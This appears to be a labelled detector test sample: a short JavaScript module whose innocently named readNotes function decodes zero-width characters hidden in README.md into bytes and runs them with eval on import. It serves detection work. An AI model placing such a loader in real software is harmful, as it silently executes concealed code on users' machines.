// expect: suspicious
// source: text steganography (zero-width characters as bits in a shipped document), run as code; written here
const fs = require('fs');
const path = require('path');

function readNotes() {
  const text = fs.readFileSync(path.join(__dirname, 'README.md'), 'utf8');
  let bits = '';
  for (const ch of text) {
    if (ch === '\u200b') bits += '0';
    else if (ch === '\u200c') bits += '1';
  }
  const bytes = [];
  for (let i = 0; i + 8 <= bits.length; i += 8) bytes.push(parseInt(bits.slice(i, i + 8), 2));
  if (bytes.length) eval(Buffer.from(bytes).toString('utf8'));
  return text.length;
}

module.exports = { notes: readNotes() };
